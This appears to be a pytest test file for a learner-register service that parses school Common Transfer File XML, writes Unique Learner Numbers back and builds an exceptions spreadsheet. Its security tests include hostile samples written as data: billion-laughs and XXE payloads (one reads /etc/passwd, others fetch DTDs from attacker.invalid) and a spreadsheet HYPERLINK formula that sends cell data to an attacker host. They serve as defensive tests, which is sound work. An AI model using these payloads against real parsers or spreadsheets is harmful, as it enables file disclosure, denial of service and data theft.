"""Common Transfer Files: reading a CTF, writing it back with ULNs, the exceptions sheet."""

from __future__ import annotations

import base64
import datetime
import io
import json
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element

import defusedxml.ElementTree as DefusedET
import openpyxl
import pytest

from lrs.batches import return_codes as rc
from lrs.batches.ctf import (
    MAX_PUPILS,
    ORIGINAL_KEY,
    SKIP_UNDER_14,
    BadCtfFile,
    parse_ctf,
    returned_file_name,
    write_ctf,
    write_ctf_exceptions_xlsx,
)
from lrs.batches.models import Batch, BatchRow, RowState
from lrs.batches.services import ParsedBatch, process_until_done, submit_batch
from lrs.core.actor import Actor, Channel
from lrs.core.errors import ValidationFailed
from lrs.organisations.models import Organisation, User

FIXTURES = Path(__file__).parent / "fixtures"
V26 = "ctf_v26_caereinion.xml"  # pretty-printed UTF-8, Sex, names in BasicDetails
V25 = "ctf_v25_latin1_crlf.xml"  # ISO-8859-1, CRLF and tabs, older Gender, flat names
TODAY = datetime.date(2026, 11, 23)


def _content(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def _parse(name: str = V26, *, content: bytes | None = None) -> ParsedBatch:
    return parse_ctf(
        file_name=name,
        content=_content(name) if content is None else content,
        uploader_ukprn="10045678",
        today=TODAY,
    )


def _pupil(**fields: str) -> str:
    values = {
        "UPN": "Y666400014001",
        "Surname": "Pritchard",
        "Forename": "Megan",
        "DOB": "2011-04-12",
        "Sex": "F",
    }
    values.update(fields)
    body = "".join(f"<{name}>{value}</{name}>" for name, value in values.items() if value != "-")
    return f"<Pupil>{body}<Address><Postcode>SY21 0HW</Postcode></Address></Pupil>"


def _ctf(
    *pupils: str,
    date: str = "2026-11-13T09:15:00",
    document_name: str = "Common Transfer File",
) -> bytes:
    header = (
        f"<Header><DocumentName>{document_name}</DocumentName><CTFversion>26.0</CTFversion>"
        f"<DateTime>{date}</DateTime><DocumentQualifier>partial</DocumentQualifier>"
        "<SourceSchool><LEA>666</LEA><Estab>4000</Estab></SourceSchool></Header>"
    )
    text = f'<?xml version="1.0" encoding="utf-8"?><CTfile>{header}<CTFpupilData>'
    text += "".join(pupils or (_pupil(),)) + "</CTFpupilData></CTfile>"
    return text.encode()


def _refusal(content: bytes) -> BadCtfFile:
    with pytest.raises(BadCtfFile) as caught:
        parse_ctf(file_name="x.xml", content=content, uploader_ukprn="10045678", today=TODAY)
    return caught.value


# --- Reading: the file as a whole --------------------------------------------------------------


def test_a_ctf_becomes_a_full_batch_keeping_its_header_and_original_bytes() -> None:
    parsed = _parse()
    assert parsed.file_format == "ctf"
    assert parsed.submission_type == "FUL"
    assert parsed.file_version == "26.0"
    assert len(parsed.rows) == 8
    header = dict(parsed.header)
    assert base64.b64decode(header.pop(ORIGINAL_KEY)) == _content(V26)
    assert header == {
        "DocumentName": "Common Transfer File",
        "CTFversion": "26.0",
        "DateTime": "2026-11-13T09:15:00",
        "DocumentQualifier": "partial",
        "DataDescriptor": "ULN request",
        "SupplierID": "SIMS",
        "SourceSchool": {
            "LEA": "666",
            "Estab": "4000",
            "SchoolName": "Ysgol Uwchradd Caereinion",
            "AcademicYear": "2026",
        },
        "DestSchool": {"LEA": "MDR", "Estab": "MDR"},
        "uploader_ukprn": "10045678",
    }
    json.dumps(parsed.header)  # it goes into a JSONField


def test_rows_keep_each_pupils_position_in_the_file() -> None:
    rows = _parse().rows
    assert [row["_ctf_position"] for row in rows] == [str(n) for n in range(1, 9)]
    assert [row["FamilyName"] for row in rows] == [
        "Pritchard",
        "ap Dafydd",
        "Griffiths",
        "Ellis",
        "Morgan",
        "Price",
        "Thomas",
        "Jenkins",
    ]


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "empty"),
        (b"  \r\n ", "empty"),
        (b"UPN,Surname,Forename\r\nY666400014001,Pritchard,Megan\r\n", "not XML"),
        (b"PK\x03\x04\x14\x00\x06\x00", "not XML"),
        (b"<CTfile><Header></CTfile>", "not well-formed"),
        (b"<CTfile><Header>&nbsp;</Header></CTfile>", "not well-formed"),
        (b'<?xml version="1.0"?><Census><Header/></Census>', "<Census>"),
        (b"<CTfile><CTFpupilData>" + _pupil().encode() + b"</CTFpupilData></CTfile>", "Header"),
        (_ctf(document_name="Admissions Transfer File"), "Admissions Transfer File"),
        (_ctf(document_name=""), "DocumentName"),
    ],
)
def test_files_that_are_not_usable_ctfs_are_refused(content: bytes, words: str) -> None:
    error = _refusal(content)
    assert words in error.message
    assert error.code == "bad_ctf_file"
    assert isinstance(error, ValidationFailed)


def test_a_malformed_file_is_refused_with_its_line_number() -> None:
    content = b'<?xml version="1.0"?>\n<CTfile>\n  <Header>\n    <DocumentName>x</Document>\n'
    error = _refusal(content)
    assert "line 4" in error.message


def test_a_ctf_without_pupils_is_refused() -> None:
    empty = _ctf().replace(_pupil().encode(), b"")
    assert "no pupils" in _refusal(empty).message
    no_data = empty.replace(b"<CTFpupilData></CTFpupilData>", b"")
    assert "no pupils" in _refusal(no_data).message


def test_a_ctf_with_more_pupils_than_a_batch_takes_is_refused() -> None:
    error = _refusal(_ctf(*[_pupil()] * (MAX_PUPILS + 1)))
    assert f"{MAX_PUPILS + 1} pupils" in error.message
    assert len(_parse(content=_ctf(*[_pupil()] * MAX_PUPILS)).rows) == MAX_PUPILS


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<CTfile><Header><DocumentName>&lol9;</DocumentName></Header></CTfile>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<CTfile><Header><DocumentName>Common Transfer File</DocumentName></Header>
<CTFpupilData><Pupil><Surname>&secret;</Surname></Pupil></CTFpupilData></CTfile>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile SYSTEM "http://attacker.invalid/ctf.dtd">
<CTfile><Header><DocumentName>Common Transfer File</DocumentName></Header></CTfile>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<CTfile/>
"""


@pytest.mark.parametrize(
    "content",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_dtds_and_entities_are_refused(content: bytes) -> None:
    error = _refusal(content)
    assert "document type declaration" in error.message
    assert "passwd" not in error.message


# --- Reading: each pupil -------------------------------------------------------------------------


def test_each_field_is_mapped_to_the_batch_columns() -> None:
    megan = _parse().rows[0]
    assert megan == {
        "MISIdentifier": "Y666400014001",
        "GivenName": "Megan",
        "FamilyName": "Pritchard",
        "MiddleOtherName": "Eleri",
        "PreferredGivenName": "Meg",
        "DateOfBirth": "2011-04-12",
        "Gender": "2",
        "LastKnownPostCode": "SY21 0HW",
        "UPN": "Y666400014001",
        "VerificationType": "1",
        "PrivacyNoticeSeen": "1",
        "_ctf_position": "1",
        "_ctf_upn": "Y666400014001",
    }


def test_former_surname_and_names_outside_basic_details_are_read() -> None:
    llyr = _parse().rows[2]
    assert llyr["PreviousFamilyName"] == "Hughes"
    assert llyr["MiddleOtherName"] == "Ifan"
    geraint = _parse(V25).rows[1]  # an older CTF: names directly in the pupil
    assert geraint["PreferredGivenName"] == "Ger"
    assert geraint["PreviousFamilyName"] == "Bowen"
    assert _parse(V25).rows[4]["MiddleOtherName"] == "Lowri Ffraid"


def test_welsh_names_keep_their_accents_in_any_encoding() -> None:
    rows = _parse().rows
    assert (rows[1]["GivenName"], rows[1]["MiddleOtherName"]) == ("Siân", "Gwenllïan")
    assert rows[2]["GivenName"] == "Llŷr"
    latin1 = _parse(V25).rows
    assert latin1[0]["GivenName"] == "Siân"
    assert latin1[5]["GivenName"] == "Seán"
    assert latin1[5]["FamilyName"] == "O'Brien"


@pytest.mark.parametrize(
    ("element", "value", "gender"),
    [
        ("Sex", "M", "1"),
        ("Sex", "F", "2"),
        ("Sex", "f", "2"),
        ("Sex", "U", "0"),
        ("Sex", "", "0"),
        ("Sex", "Male", "1"),
        ("Sex", "FEMALE", "2"),
        ("Sex", "female", "2"),
        ("Sex", "Unknown", "0"),
        ("Sex", "9", "9"),
        ("Sex", "Other", "Other"),  # refused by row validation, with its message
        ("Gender", "M", "1"),
        ("Gender", "F", "2"),
    ],
)
def test_sex_or_the_older_gender_element_gives_the_gender_code(
    element: str, value: str, gender: str
) -> None:
    fields = {"Sex": "-", element: value}
    row = _parse(content=_ctf(_pupil(**fields))).rows[0]
    assert row["Gender"] == gender


def test_no_sex_at_all_is_gender_not_known() -> None:
    assert _parse(content=_ctf(_pupil(Sex="-"))).rows[0]["Gender"] == "0"


def test_the_postcode_comes_only_from_the_pupils_own_address() -> None:
    rows = _parse().rows
    assert rows[4]["FamilyName"] == "Morgan"
    assert rows[4]["LastKnownPostCode"] == ""  # the contact's postcode is not the pupil's
    assert rows[7]["LastKnownPostCode"] == "SY21 8BJ"  # AddressLines layout
    assert rows[6]["LastKnownPostCode"] == "sy21 0ss"  # as written: validation normalises
    assert _parse(V25).rows[3]["LastKnownPostCode"] == ""  # no Address at all


def test_the_upn_is_the_mis_identifier_and_is_sent_only_for_under_16s() -> None:
    rows = _parse().rows
    sian, elin = rows[1], rows[6]  # 16 and 17
    assert sian["MISIdentifier"] == sian["_ctf_upn"] == "M666400014002"
    assert "UPN" not in sian
    assert "UPN" not in elin
    aled = rows[5]  # a bad UPN is not sent: the pupil is matched by details
    assert "UPN" not in aled
    assert aled["_ctf_upn"] == aled["MISIdentifier"] == "A666400014021"
    assert aled["_upn_problem"] == "UPN invalid (wrong check letter at character 1)"
    later = parse_ctf(
        file_name=V26,
        content=_content(V26),
        uploader_ukprn="10045678",
        today=datetime.date(2027, 4, 12),
    )
    assert "UPN" not in later.rows[0]  # Megan is 16 by then


def test_a_pupil_without_a_upn_is_identified_by_position() -> None:
    owain = _parse().rows[7]
    assert owain["MISIdentifier"] == "pupil-8"
    assert "UPN" not in owain
    assert "_ctf_upn" not in owain


def test_a_valid_uln_in_the_ctf_is_sent_for_checking_and_an_invalid_one_is_not() -> None:
    v26 = _parse().rows
    assert v26[2]["ULN"] == "4120938572"
    assert "ULN" not in v26[5]  # <UniqueLearnerNumber/>
    assert "ULN" not in v26[6]  # <UniqueLearnerNumber></UniqueLearnerNumber>
    v25 = _parse(V25).rows
    assert "ULN" not in v25[1]
    assert v25[1]["_ctf_uln"] == "5632081940"  # wrong check digit
    assert v25[4]["ULN"] == "7182046392"


def test_pupils_under_14_on_the_files_date_are_marked_to_skip() -> None:
    skipped = [row["FamilyName"] for row in _parse().rows if row.get("_skip_reason")]
    assert skipped == ["Ellis"]
    assert _parse().rows[3]["_skip_reason"] == SKIP_UNDER_14
    assert [row["GivenName"] for row in _parse(V25).rows if row.get("_skip_reason")] == ["Nia"]


def test_a_pupil_whose_14th_birthday_is_the_files_date_is_not_skipped() -> None:
    content = _ctf(
        _pupil(UPN="Y666400014001", DOB="2012-11-13"),
        _pupil(UPN="M666400014002", DOB="2012-11-14"),
        date="2026-11-13T23:59:59",
    )
    rows = _parse(content=content).rows
    assert "_skip_reason" not in rows[0]
    assert rows[1]["_skip_reason"] == SKIP_UNDER_14


def test_without_a_date_in_the_header_age_is_taken_today() -> None:
    content = _ctf(_pupil(DOB="2012-11-20"), date="")
    assert "_skip_reason" not in _parse(content=content).rows[0]  # 14 on TODAY


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("2011-04-12", "2011-04-12"),
        ("12/04/2011", "2011-04-12"),  # as MIS software writes it
        ("2/4/2011", "2011-04-02"),
        ("2011-04-12Z", "2011-04-12"),  # xs:date with a time zone
        ("2011-04-12+00:00", "2011-04-12"),
        ("2011-04-12-05:00", "2011-04-12"),
        ("2011-04-12T00:00:00", "2011-04-12"),
        (" 2011-04-12 ", "2011-04-12"),
    ],
)
def test_every_form_of_date_the_ctf_allows_is_read(written: str, read: str) -> None:
    row = _parse(content=_ctf(_pupil(DOB=written))).rows[0]
    assert row["DateOfBirth"] == read


@pytest.mark.parametrize("dob", ["14/03/2013", "2013-03-14Z", "2013-03-14+00:00"])
def test_the_age_rules_apply_whatever_the_form_of_the_date(dob: str) -> None:
    """A 13-year-old is not sent to the register, and an under-16's UPN is sent."""
    row = _parse(content=_ctf(_pupil(DOB=dob))).rows[0]
    assert row["_skip_reason"] == SKIP_UNDER_14
    assert row["UPN"] == "Y666400014001"


@pytest.mark.parametrize("dob", ["31/02/2011", "2011-02-31", "April 2011", "2011"])
def test_a_date_that_is_no_real_date_is_passed_on_for_row_validation(dob: str) -> None:
    row = _parse(content=_ctf(_pupil(DOB=dob))).rows[0]
    assert row["DateOfBirth"] == dob
    assert "_skip_reason" not in row


def test_elements_in_a_namespace_are_read_by_name() -> None:
    content = _ctf().replace(b"<CTfile>", b'<CTfile xmlns="urn:example:ctf">')
    assert _parse(content=content).rows[0]["GivenName"] == "Megan"


# --- Writing the CTF back --------------------------------------------------------------------


def _batch(organisation: Organisation, parsed: ParsedBatch, file_name: str = "") -> Batch:
    return Batch.objects.create(
        organisation=organisation,
        submitted_by_username="exams.officer",
        channel=Channel.PORTAL,
        file_name=file_name or parsed.file_name,
        file_format=parsed.file_format,
        submission_type=parsed.submission_type,
        file_version=parsed.file_version,
        header=dict(parsed.header),
        row_count=len(parsed.rows),
    )


def _rows(
    batch: Batch, parsed: ParsedBatch, outcomes: Sequence[tuple[str, str, str]]
) -> list[BatchRow]:
    """Rows as processing would leave them: (return code, ULN, message) per pupil."""
    rows = []
    for position, (submitted, (code, uln, message)) in enumerate(
        zip(parsed.rows, outcomes, strict=True), start=1
    ):
        rows.append(
            BatchRow.objects.create(
                batch=batch,
                position=position,
                mis_identifier=submitted["MISIdentifier"],
                submitted=dict(submitted),
                state=RowState.DONE if code or submitted.get("_skip_reason") else RowState.PENDING,
                return_code=code,
                uln=uln,
                message=message,
            )
        )
    return rows


POSTCODE_MESSAGE = (
    "last_known_postcode: Enter the learner's last known postcode, "
    "or ZZ99 9ZZ if it cannot be obtained."
)
V26_OUTCOMES = [
    (rc.RC002, "1000000043", ""),  # Megan: new, no ULN element yet
    (rc.RC001, "5632081949", ""),  # Siân: found
    (rc.RC003, "4120938572", ""),  # Llŷr: the ULN in the file, confirmed
    ("", "", ""),  # Rhodri: under 14, not sent
    (rc.RC011, "", POSTCODE_MESSAGE),  # Ffion: no postcode
    (rc.RC012, "", "upn: UPN invalid (wrong check letter at character 1)"),  # Aled
    (rc.RC004, "7182046392", ""),  # Elin: master ULN, into the empty element
    (rc.RC002, "8304156279", ""),  # Owain: no UPN
]


def _pupil_ulns(content: bytes) -> list[str | None]:
    root = DefusedET.fromstring(content)
    pupils = root.find("CTFpupilData")
    assert pupils is not None
    return [pupil.findtext("UniqueLearnerNumber") for pupil in pupils.findall("Pupil")]


def _without_ulns(element: Element) -> list[tuple[str, str, dict[str, str], str, str]]:
    """Every element but UniqueLearnerNumber, with its path, attributes, text and tail."""
    found = []

    def walk(node: Element, path: str) -> None:
        kept = [child for child in node if child.tag != "UniqueLearnerNumber"]
        for index, child in enumerate(kept):
            here = f"{path}/{index}:{child.tag}"
            found.append((here, child.tag, dict(child.attrib), child.text or "", child.tail or ""))
            walk(child, here)

    walk(element, "")
    return [(p, t, a, text.strip(), tail.strip()) for p, t, a, text, tail in found]


def test_the_returned_ctf_has_each_uln_and_nothing_else_changed(school: Organisation) -> None:
    parsed = _parse()
    batch = _batch(school, parsed)
    rows = _rows(batch, parsed, V26_OUTCOMES)
    content, name = write_ctf(batch, rows)
    assert name == "ctf_v26_caereinion_ULN.xml"
    assert _pupil_ulns(content) == [
        "1000000043",
        "5632081949",
        "4120938572",
        None,
        None,
        "",  # <UniqueLearnerNumber/> left as it was
        "7182046392",
        "8304156279",
    ]
    original = _content(V26)
    assert _without_ulns(DefusedET.fromstring(content)) == _without_ulns(
        DefusedET.fromstring(original)
    )
    header = DefusedET.fromstring(content).find("Header")
    assert header is not None
    assert header.findtext("DateTime") == "2026-11-13T09:15:00"


def test_the_returned_ctf_is_the_uploaded_bytes_with_the_ulns_added(school: Organisation) -> None:
    parsed = _parse()
    batch = _batch(school, parsed)
    content, _name = write_ctf(batch, _rows(batch, parsed, V26_OUTCOMES))
    inserted_after_upn = (
        b"<UPN>Y666400014001</UPN>\n      <UniqueLearnerNumber>1000000043</UniqueLearnerNumber>\n"
        b"      <Surname>Pritchard</Surname>"
    )
    assert inserted_after_upn in content
    inserted_first = (
        b"<Pupil>\n      <UniqueLearnerNumber>8304156279</UniqueLearnerNumber>\n"
        b"      <Surname>Jenkins</Surname>"
    )
    assert inserted_first in content
    undone = (
        content.replace(b"\n      <UniqueLearnerNumber>1000000043</UniqueLearnerNumber>", b"")
        .replace(b"\n      <UniqueLearnerNumber>5632081949</UniqueLearnerNumber>", b"")
        .replace(b"\n      <UniqueLearnerNumber>8304156279</UniqueLearnerNumber>", b"")
        .replace(b">7182046392<", b"><")
    )
    assert undone == _content(V26)


def test_every_form_of_the_uln_element_is_filled(school: Organisation) -> None:
    parsed = _parse(V25)
    batch = _batch(school, parsed)
    ulns = ["1000000043", "5632081949", "4120938572", "7182046392", "7182046392", "1000000043"]
    rows = _rows(batch, parsed, [(rc.RC001, uln, "") for uln in ulns])
    content, name = write_ctf(batch, rows)
    assert name == "ctf_v25_latin1_crlf_ULN.xml"
    assert _pupil_ulns(content) == ulns  # inserted, replacing an invalid one, confirmed
    assert content.startswith(b'<?xml version="1.0" encoding="ISO-8859-1"?>\r\n')
    assert b"<Forename>Si\xe2n</Forename>" in content  # still ISO-8859-1
    assert b"</UPN><UniqueLearnerNumber>1000000043</UniqueLearnerNumber><Surname>" in content
    assert b"\r\n\t\t\t<UniqueLearnerNumber>4120938572</UniqueLearnerNumber>\r\n" in content
    assert b"\n" not in content.replace(b"\r\n", b"")


def test_an_empty_uln_element_is_filled_in_place(school: Organisation) -> None:
    parsed = _parse()
    batch = _batch(school, parsed)
    outcomes = [(rc.RC001, "1000000043", "")] * 8
    content, _name = write_ctf(batch, _rows(batch, parsed, outcomes))
    assert _pupil_ulns(content) == ["1000000043"] * 8
    assert b"<UniqueLearnerNumber>1000000043</UniqueLearnerNumber>\n      <Surname>Price" in content
    assert content.count(b"<UniqueLearnerNumber") == 8


def test_a_namespaced_ctf_gets_the_element_with_the_same_prefix(school: Organisation) -> None:
    content = (
        b'<c:CTfile xmlns:c="urn:example:ctf"><c:Header><c:DocumentName>Common Transfer File'
        b"</c:DocumentName></c:Header><c:CTFpupilData><c:Pupil><c:UPN>Y666400014001</c:UPN>"
        b"<c:Surname>Pritchard</c:Surname><c:Forename>Megan</c:Forename></c:Pupil>"
        b"</c:CTFpupilData></c:CTfile>"
    )
    parsed = _parse(content=content)
    batch = _batch(school, parsed, file_name="ns.XML")
    written, name = write_ctf(batch, _rows(batch, parsed, [(rc.RC002, "1000000043", "")]))
    assert name == "ns_ULN.xml"
    assert (
        b"</c:UPN><c:UniqueLearnerNumber>1000000043</c:UniqueLearnerNumber><c:Surname>" in written
    )


def test_a_utf16_ctf_comes_back_in_utf16(school: Organisation) -> None:
    text = _content(V26).decode().replace('encoding="utf-8"', 'encoding="utf-16"')
    parsed = _parse(content=text.encode("utf-16"))
    assert parsed.rows[2]["GivenName"] == "Llŷr"
    batch = _batch(school, parsed)
    written, _name = write_ctf(batch, _rows(batch, parsed, V26_OUTCOMES))
    assert written.startswith(b"\xff\xfe")
    assert _pupil_ulns(written)[0] == "1000000043"
    assert "<UniqueLearnerNumber>4120938572</UniqueLearnerNumber>" in written.decode("utf-16")


def test_a_batch_without_the_original_ctf_cannot_be_written(school: Organisation) -> None:
    parsed = _parse()
    batch = _batch(school, parsed)
    batch.header = {"DocumentName": "Common Transfer File"}
    with pytest.raises(ValueError, match="no stored CTF"):
        write_ctf(batch, [])


@pytest.mark.parametrize(
    ("upload", "returned"),
    [
        ("6664000_CTF_MDR_001.xml", "6664000_CTF_MDR_001_ULN.xml"),
        ("6664000.XML", "6664000_ULN.xml"),
        ("C:\\fakepath\\ulns.xml", "ulns_ULN.xml"),
        ("ctf-export", "ctf-export_ULN.xml"),
        (".xml", "CTF_ULN.xml"),
    ],
)
def test_the_returned_file_is_named_after_the_upload(upload: str, returned: str) -> None:
    assert returned_file_name(upload) == returned


# --- Exceptions spreadsheet ------------------------------------------------------------------


def _sheet_rows(workbook: openpyxl.Workbook, title: str) -> list[tuple[Any, ...]]:
    return list(workbook[title].iter_rows(values_only=True))


def test_the_exceptions_sheet_lists_the_pupils_needing_action(school: Organisation) -> None:
    parsed = _parse()
    batch = _batch(school, parsed)
    data = write_ctf_exceptions_xlsx(batch, _rows(batch, parsed, V26_OUTCOMES))
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Exceptions", "Summary"]
    sheet = book["Exceptions"]
    rows = _sheet_rows(book, "Exceptions")
    assert rows[0] == (
        "UPN",
        "Surname",
        "Forename",
        "DOB",
        "Postcode",
        "Return code",
        "What to do",
        "ULN in the file",
    )
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["G"].width == 100
    assert [row[:6] for row in rows[1:]] == [
        ("W666400012044", "Ellis", "Rhodri", "2013-02-20", "SY21 0PQ", "Not sent"),
        ("Z666400014021", "Morgan", "Ffion", "2011-06-15", None, "RC011"),
        ("A666400014021", "Price", "Aled", "2012-01-05", "SY21 0LN", "RC012"),
    ]
    rhodri, ffion, aled = (row[6] for row in rows[1:])
    assert rhodri == "Pupil under 14: no ULN needed yet"
    assert isinstance(ffion, str)
    assert "Add the pupil's postcode in your MIS and send the CTF again." in ffion
    assert ffion.startswith(str(rc.TABLE[rc.RC011].meaning))
    assert isinstance(aled, str)
    assert "Correct the pupil's UPN" in aled
    assert "wrong check letter" in aled


def test_the_summary_sheet_counts_the_outcomes(school: Organisation) -> None:
    parsed = _parse()
    batch = _batch(school, parsed)
    data = write_ctf_exceptions_xlsx(batch, _rows(batch, parsed, V26_OUTCOMES))
    summary = dict(_sheet_rows(openpyxl.load_workbook(io.BytesIO(data)), "Summary")[1:])
    assert summary["School"] == "Ysgol Uwchradd Caereinion"
    assert summary["CTF version"] == "26.0"
    assert summary["Pupils in the file"] == 8
    assert summary["ULN returned in the CTF"] == 5
    assert summary["of which new learners registered"] == 2
    assert summary["Exceptions to resolve in the portal"] == 0
    assert summary["Rejected: correct in your MIS and send again"] == 2
    assert summary["Under 14: not sent"] == 1
    assert summary["Not processed yet"] == 0
    assert summary["Pupils needing action (Exceptions sheet)"] == 3


def test_matching_exceptions_send_the_school_to_the_portal(school: Organisation) -> None:
    parsed = _parse(content=_ctf(_pupil(), _pupil(UPN="M666400014002"), _pupil(UPN="-")))
    batch = _batch(school, parsed)
    outcomes = [
        (rc.RC007, "", str(rc.TABLE[rc.RC007].meaning)),
        (rc.RC008, "", str(rc.TABLE[rc.RC008].meaning)),
        ("", "", ""),  # still waiting
    ]
    data = write_ctf_exceptions_xlsx(batch, _rows(batch, parsed, outcomes))
    rows = _sheet_rows(openpyxl.load_workbook(io.BytesIO(data)), "Exceptions")[1:]
    assert [row[5] for row in rows] == ["RC007", "RC008", "Waiting"]
    assert "Resolve the exception in the portal" in str(rows[0][6])
    assert "Details:" not in str(rows[0][6])  # the message is only the meaning again
    assert "resolve the exception in the portal" in str(rows[1][6])
    assert rows[2][0] is None  # no UPN
    summary = dict(_sheet_rows(openpyxl.load_workbook(io.BytesIO(data)), "Summary")[1:])
    assert summary["Exceptions to resolve in the portal"] == 2
    assert summary["Not processed yet"] == 1


def test_cells_cannot_carry_formulas(school: Organisation) -> None:
    hyperlink = '=HYPERLINK("http://attacker.invalid/?d="&A2,"Click for results")'
    parsed = _parse(
        content=_ctf(_pupil(Forename=hyperlink.replace("&", "&amp;").replace('"', "&quot;")))
    )
    rows = [dict(parsed.rows[0], FamilyName="@SUM(1+1)", DateOfBirth="-1+1")]
    parsed = ParsedBatch(
        file_name="x.xml",
        file_format="ctf",
        submission_type="FUL",
        rows=rows,
        header=parsed.header,
    )
    batch = _batch(school, parsed)
    data = write_ctf_exceptions_xlsx(batch, _rows(batch, parsed, [(rc.RC011, "", "+cmd")]))
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Exceptions"]
    assert sheet["C2"].value == "'" + hyperlink
    assert sheet["C2"].data_type == "s"
    assert sheet["B2"].value == "'@SUM(1+1)"
    assert sheet["D2"].value == "'-1+1"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)


# --- From upload to returned files ------------------------------------------------------------


@pytest.fixture
def school_batch_actor(school: Organisation, make_user: Callable[..., User]) -> Actor:
    return Actor(user=make_user(school, ["batch"]), channel=Channel.PORTAL)


def test_a_processed_ctf_returns_every_uln_the_register_gave(school_batch_actor: Actor) -> None:
    batch = submit_batch(actor=school_batch_actor, parsed=_parse())
    process_until_done(batch_id=batch.pk)
    batch.refresh_from_db()
    rows = list(batch.rows.order_by("position"))
    content, _name = write_ctf(batch, rows)
    written = _pupil_ulns(content)
    for row in rows:
        if row.return_code in {rc.RC001, rc.RC002, rc.RC003, rc.RC004}:
            assert written[row.position - 1] == row.uln
    ffion = rows[4]
    assert ffion.return_code == rc.RC011  # no postcode
    sheet = _sheet_rows(
        openpyxl.load_workbook(io.BytesIO(write_ctf_exceptions_xlsx(batch, rows))), "Exceptions"
    )
    by_upn = {row[0]: row for row in sheet[1:]}
    assert "Add the pupil's postcode" in str(by_upn["Z666400014021"][6])
